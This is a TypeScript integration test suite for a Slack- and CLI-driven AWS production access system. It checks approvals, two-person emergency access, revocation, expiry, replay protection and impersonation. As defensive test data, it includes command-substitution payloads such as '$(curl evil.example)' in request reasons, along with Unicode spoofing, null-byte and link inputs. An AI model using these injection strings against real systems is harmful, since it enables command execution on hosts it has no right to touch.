import { DynamoDBClient, QueryCommand, type AttributeValue } from '@aws-sdk/client-dynamodb';
import { AddUserToGroupCommand, CreateUserCommand } from '@aws-sdk/client-iam';
import { InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { GetScheduleCommand, ListSchedulesCommand, SchedulerClient } from '@aws-sdk/client-scheduler';
import {
  keeperFunctionName,
  recordTableName,
  scheduleGroupName,
  slackAlias,
} from '../../components/production-access/access-names';
import { personAlias } from '../../components/production-access/person-alias';
import { AccessDesk } from '../../operations/production-access/access-desk';
import { AccessKeeper } from '../../operations/production-access/access-keeper';
import type { HttpAnswer } from '../../operations/production-access/answer-slack';
import { awsPorts } from '../../operations/production-access/aws/aws-ports';
import type { Ports } from '../../operations/production-access/ports';
import { hostileMessages } from '../operations/production-access/hostile-messages';
import { slackEvent, slackIds, type Sent } from '../operations/production-access/slack-message';
import { buildAccount, crowd, crowded, cutPolicy, iam, place, settings, windowOf } from './account';
import { grantIn, invoke, until, type Reply } from './calling';
import { ChatDouble, type DoubleIdentity } from './chat-double';

/** The group of the grant that runs to its end while everything else is tested in another one. */
const group = 'system-operator';
const other = 'security-auditor';
const emergency = 'all-accounts-break-glass';
const request = { action: 'request', group, minutes: 1, reason: 'Restart the ledger', ticket: 'OPS-1' };
const ports = awsPorts(settings, place, () => undefined);
const chat = new ChatDouble();

function call(person: string, input: object): Promise<Reply> {
  return invoke(personAlias(person), JSON.stringify(input));
}

function slack(event: unknown): Promise<HttpAnswer> {
  return invoke(slackAlias, JSON.stringify(event));
}

function said(sent: Omit<Sent, 'sentAt'>): Promise<HttpAnswer> {
  return slack(slackEvent({ sentAt: Date.now(), ...sent }));
}

async function records(): Promise<readonly Record<string, AttributeValue>[]> {
  const { Items = [] } = await new DynamoDBClient({}).send(
    new QueryCommand({
      TableName: recordTableName,
      KeyConditionExpression: '#day = :day',
      ExpressionAttributeNames: { '#day': 'day' },
      ExpressionAttributeValues: { ':day': { S: new Date().toISOString().slice(0, 10).replaceAll('-', '') } },
    }),
  );
  return Items;
}

beforeAll(async () => buildAccount(await chat.start()));
afterAll(() => chat.stop());

let running = { id: '', end: 0 };

it('request, approve, member', async () => {
  const { id } = grantIn(await call('ada.lovelace', request));
  expect(await ports.memberships.members(group)).toEqual([]);
  expect(await call('ada.lovelace', { action: 'approve', id })).toMatchObject({ refused: 'not-an-approver' });
  const open = grantIn(await call('grace.hopper', { action: 'approve', id }));
  expect(open.status).toBe('open');
  expect(await ports.memberships.members(group)).toEqual(['ada.lovelace']);
  running = { id, end: Date.parse(open.expiresAt ?? '') };
  expect(await ports.memberships.expiry('ada.lovelace', group)).toBe(running.end);
  expect(await windowOf(group)).toContain('"aws:username":"ada.lovelace"');
  const schedule = await new SchedulerClient({}).send(
    new GetScheduleCommand({ Name: `expire-${id}`, GroupName: scheduleGroupName }),
  );
  expect(schedule.ActionAfterCompletion).toBe('DELETE');
  expect(await call('edsger.dijkstra', { action: 'approve', id })).toMatchObject({ refused: 'not-pending' });
});

it.each([
  ['nobody by that alias', undefined, request, 'unknown-person'],
  ['an approver without production access asks', 'katherine.johnson', request, 'not-a-production-person'],
  ['too long', 'edsger.dijkstra', { ...request, group: other, minutes: 241 }, 'duration'],
  ['shell in the reason', 'ada.lovelace', { ...request, reason: 'fix $(curl evil.example)' }, 'invalid'],
  ['look-alike letters', 'ada.lovelace', { ...request, reason: 'Rest\u0430rt the ledger' }, 'invalid'],
  ['a request nobody made', 'grace.hopper', { action: 'approve', id: '20261122-aaaaaaaaaa' }, 'unknown-request'],
])('is refused: %s', async (_, person, input, refused) => {
  const alias = person === undefined ? undefined : personAlias(person);
  expect(await invoke(alias, JSON.stringify(input))).toMatchObject({ refused });
});

it('own approval is refused, ten approvals at once count once, revocation works at once', async () => {
  const asked = { ...request, group: other, minutes: 30 };
  const { id } = grantIn(await call('edsger.dijkstra', asked));
  expect(await call('edsger.dijkstra', { action: 'approve', id })).toMatchObject({ refused: 'own-request' });
  const replies = await Promise.all(
    Array.from({ length: 10 }, (_, index) =>
      call(index % 2 === 0 ? 'grace.hopper' : 'katherine.johnson', { action: 'approve', id }).catch(() => ({})),
    ),
  );
  expect(replies.filter((reply) => 'grants' in reply)).toHaveLength(1);
  expect(await ports.memberships.members(other)).toEqual(['edsger.dijkstra']);
  const closed = await call('edsger.dijkstra', { action: 'revoke', id, reason: 'The work is done' });
  expect(grantIn(closed).status).toBe('closed');
  expect(await ports.memberships.members(other)).toEqual([]);
  expect(await call('grace.hopper', { action: 'approve', id })).toMatchObject({ refused: 'not-pending' });
  expect(await cutPolicy()).toContain('"aws:userid":"*:edsger.dijkstra"');
});

it('an emergency needs two approvers, neither of them the requester', async () => {
  const { id } = grantIn(await call('grace.hopper', { ...request, group: emergency, minutes: 15 }));
  expect(await call('grace.hopper', { action: 'approve', id })).toMatchObject({ refused: 'own-request' });
  expect(grantIn(await call('katherine.johnson', { action: 'approve', id })).status).toBe('pending');
  expect(await call('katherine.johnson', { action: 'approve', id })).toMatchObject({ refused: 'already-approved' });
  expect(await ports.memberships.members(emergency)).toEqual([]);
  expect(grantIn(await call('edsger.dijkstra', { action: 'approve', id })).status).toBe('open');
  expect(await ports.memberships.members(emergency)).toEqual(['grace.hopper']);
  await call('katherine.johnson', { action: 'revoke', id, reason: 'The work is done' });
  expect(await ports.memberships.members(emergency)).toEqual([]);
});

describe('Slack', () => {
  const ask = `request ${other} 30 OPS-1 Restart the ledger`;

  it('every hostile message is answered as it should, and does nothing', async () => {
    const before = (await records()).length;
    const wrong: object[] = [];
    for (const { what, event, statusCode } of hostileMessages) {
      const reply = await slack(event(Date.now()));
      const isQuiet = !/evil|channel>|curl|<@|[^ -~]/.test(reply.body);
      const isRefused = statusCode !== 200 || reply.body.includes('Refused');
      if (reply.statusCode !== statusCode || !isQuiet || !isRefused) wrong.push({ what, reply });
    }
    expect(wrong).toEqual([]);
    expect(await records()).toHaveLength(before);
  });

  it('opens and ends access with two people; replays and second deliveries do nothing', async () => {
    const asking = slackEvent({ user: 'U0EDSGER', text: ask, sentAt: Date.now() });
    const asked = await slack(asking);
    const [id = ''] = /\d{8}-[a-z0-9]{10}/.exec(asked.body) ?? [];
    expect(asked.body).toContain(`${id} pending edsger.dijkstra ${other}`);
    expect(await slack(asking)).toMatchObject({ statusCode: 401, body: expect.stringContaining('replayed') });
    expect((await said({ user: 'U0EDSGER', text: `approve ${id}` })).body).toContain('your own request');
    expect((await said({ user: 'U0ADA', text: `approve ${id}` })).body).toContain('not an approver');
    const fields = { trigger_id: '13345224609.738474920.8088930838d88f008e0' };
    const approval = { user: 'U0GRACE', text: `approve ${id}`, fields } as const;
    expect((await said(approval)).body).toContain('open');
    expect(await ports.memberships.members(other)).toEqual(['edsger.dijkstra']);
    const retry = await said({ ...approval, headers: { 'X-Slack-Retry-Num': '1' }, more: '&again=1' });
    expect(retry).toMatchObject({ statusCode: 200, body: expect.stringContaining('here before') });
    const revoked = await said({ user: 'U0KATHERINE', text: `revoke ${id} The work is done`, isBase64Encoded: true });
    expect(revoked.body).toContain('closed');
    expect(await ports.memberships.members(other)).toEqual([]);
    expect((await records()).filter((item) => item['id']?.S === id).map((item) => item['type']?.S)).toEqual([
      'requested',
      'approved',
      'granted',
      'revoked',
      'closed',
    ]);
  });

  it('twenty copies of one message at the same moment act once', async () => {
    const before = new Set((await records()).map((item) => item['id']?.S)).size;
    const message = slackEvent({ user: 'U0EDSGER', text: ask, sentAt: Date.now() });
    const answers = await Promise.all(Array.from({ length: 20 }, () => slack(message)));
    expect(answers.filter(({ statusCode }) => statusCode === 200)).toHaveLength(1);
    expect(new Set((await records()).map((item) => item['id']?.S)).size).toBe(before + 1);
    const [id = ''] = answers.flatMap(({ body }) => /\d{8}-[a-z0-9]{10}/.exec(body) ?? []);
    await said({ user: 'U0EDSGER', text: `reject ${id} Not needed any more` });
  });
});

describe('the AWS chat service', () => {
  const identityOf = (name: string, user: string): DoubleIdentity => ({
    SlackUserId: user,
    SlackTeamId: slackIds.workspaceId,
    IamRoleArn: settings.people.find((person) => person.name === name)?.chat?.roleArn ?? '',
  });
  const edsger = identityOf('edsger.dijkstra', 'U0EDSGER');
  const grace = identityOf('grace.hopper', 'U0GRACE');
  const aliasOf = (name: string): string => settings.people.find((person) => person.name === name)?.chat?.alias ?? '';
  const as = (name: string, text: unknown): Promise<Reply> => invoke(aliasOf(name), JSON.stringify(text));

  it('opens and ends access in words, with two people it knows', async () => {
    chat.identities = [edsger, grace];
    const { id } = grantIn(await as('edsger.dijkstra', `request ${other} 30 OPS-1 Restart the ledger`));
    expect(await as('edsger.dijkstra', `approve ${id}`)).toMatchObject({ refused: 'own-request' });
    expect(grantIn(await as('grace.hopper', `approve ${id}`)).status).toBe('open');
    expect(grantIn(await as('edsger.dijkstra', `revoke ${id} The work is done`)).status).toBe('closed');
    const sources = (await records()).filter((item) => item['id']?.S === id).map((item) => item['source']?.S);
    expect(new Set(sources)).toEqual(new Set(['chat-service']));
  });

  it.each<[string, readonly DoubleIdentity[], boolean]>([
    ['chose no role', [grace], false],
    ['gave the role to another Slack user', [grace, { ...edsger, SlackUserId: 'U0MALLORY' }], false],
    ['shares the role with another Slack user', [grace, edsger, { ...edsger, SlackUserId: 'U0MALLORY' }], false],
    ['is from another workspace', [grace, { ...edsger, SlackTeamId: 'T0OTHER' }], false],
    ['cannot be looked up', [grace, edsger], true],
  ])('is not believed when the person %s', async (_, identities, isDown) => {
    chat.identities = identities;
    chat.isDown = isDown;
    const before = (await records()).length;
    const asked = { ...request, group: other };
    expect(await as('edsger.dijkstra', asked)).toMatchObject({ refused: 'chat-identity' });
    chat.isDown = false;
    expect(await records()).toHaveLength(before);
  });

  it('a requester who takes the role of an approver is found out', async () => {
    chat.identities = [edsger, { ...grace, SlackUserId: 'U0EDSGER' }];
    const { id } = grantIn(await as('edsger.dijkstra', { ...request, group: other }));
    expect(await as('grace.hopper', { action: 'approve', id })).toMatchObject({ refused: 'chat-identity' });
    await as('edsger.dijkstra', { action: 'reject', id, reason: 'Not needed any more' });
  });

  it.each([
    ['names in the input', { ...request, group: other, person: 'grace.hopper' }],
    ['a channel mention', `request ${other} 30 OPS-1 please <!channel> approve`],
    ['a shell', `request ${other} 30 OPS-1 x; $(curl evil.example) now`],
    ['a right-to-left override', `request ${other} 30 OPS-1 Restart \u202eregdel eht`],
    ['a null byte', `request ${other} 30 OPS-1 Restart\u0000 the ledger`],
    ['a link', `request ${other} 30 OPS-1 see https://evil.example now`],
    ['200 kB', `request ${other} 30 OPS-1 ${'a'.repeat(200_000)}`],
    ['a list', ['approve']],
    ['a number', 1],
    ['nothing', null],
    ['an event of API Gateway', slackEvent({ text: 'list', sentAt: Date.now() })],
  ])('%s does nothing', async (_, input) => {
    chat.identities = [edsger, grace];
    const before = (await records()).length;
    const reply = await as('edsger.dijkstra', input);
    expect(reply).toMatchObject({ refused: 'invalid' });
    expect(reply.message).not.toMatch(/evil|channel>|curl|[^ -~\n]/);
    expect(await records()).toHaveLength(before);
  });
});

it('the sweep in the double removes a member nobody asked for', async () => {
  await iam.send(new AddUserToGroupCommand({ GroupName: other, UserName: 'edsger.dijkstra' }));
  await new LambdaClient({}).send(new InvokeCommand({ FunctionName: keeperFunctionName, Payload: '{"sweep":true}' }));
  expect(await ports.memberships.members(other)).toEqual([]);
});

it('expires by its own schedule, and is gone', async () => {
  const { id, end } = running;
  await until(async () => (await ports.memberships.members(group)).length === 0, 100);
  expect(Date.now()).toBeGreaterThanOrEqual(end);
  expect(Date.now()).toBeLessThan(end + 300_000);
  await until(async () => (await ports.records.find(id))?.closedAt !== undefined, 20);
  expect(await windowOf(group)).toContain('"Sid":"Closed"');
  expect(await cutPolicy()).toContain('"aws:userid":"*:ada.lovelace"');
  expect(await ports.memberships.expiry('ada.lovelace', group)).toBeUndefined();
  const client = new SchedulerClient({});
  await until(async () => {
    const { Schedules = [] } = await client.send(new ListSchedulesCommand({ GroupName: scheduleGroupName }));
    return !Schedules.some(({ Name }) => Name === `expire-${id}`);
  }, 20);
});

it('the record has every step, in order, and takes no second event of a number', async () => {
  const items = (await records()).filter((item) => item['id']?.S === running.id);
  expect(items.map((item) => `${item['by']?.S} ${item['type']?.S} ${item['source']?.S}`)).toEqual([
    'ada.lovelace requested cli',
    'grace.hopper approved cli',
    'production-access granted cli',
    'production-access closed schedule',
  ]);
  const again = { type: 'revoked', at: 1, by: 'mallory', source: 'slack', reason: 'overwritten' } as const;
  expect(await ports.records.append(running.id, 1, again)).toBe(false);
});

it('hundred requests at once: every one is recorded, twelve are opened, all end', async () => {
  await Promise.all(crowd.map((name) => iam.send(new CreateUserCommand({ UserName: name }))));
  // Days ahead, so that the sweep at the end of these grants sees no other.
  const away = Date.now() + 8 * 24 * 3600_000;
  const desk = new AccessDesk(crowded, { ...ports, clock: () => away });
  const asked = await Promise.all(
    crowd.map((name) =>
      desk.carryOut(
        { action: 'request', group: other, duration: 1800, reason: 'Load test of it', ticket: 'OPS-2' },
        name,
        'slack',
      ),
    ),
  );
  const ids = asked.map((reply) => grantIn(reply).id);
  expect(new Set(ids).size).toBe(100);
  // The deciding function runs at most ten at a time.
  for (let start = 0; start < 100; start += 10) {
    await Promise.all(
      ids.slice(start, start + 10).map((id) => desk.carryOut({ action: 'approve', id }, 'grace.hopper', 'slack')),
    );
  }
  const members = await ports.memberships.members(other);
  const window = await windowOf(other);
  // Approvals at the same moment may all pass the limit; the window never lets more in than it has room for.
  expect((window.match(/DateGreaterThanEquals/g) ?? []).length).toBeLessThanOrEqual(13);
  expect(window.length).toBeLessThanOrEqual(6144);
  expect(members.length).toBeGreaterThanOrEqual(12);
  expect(members.length).toBeLessThan(12 + 10);
  const later: Ports = { ...ports, clock: () => away + 1_800_000 };
  const only = { ...crowded, groups: crowded.groups.filter(({ name }) => name === other) };
  await new AccessKeeper(only, later).sweep();
  expect(await ports.memberships.members(other)).toEqual([]);
  expect(await windowOf(other)).toContain('"Sid":"Closed"');
});
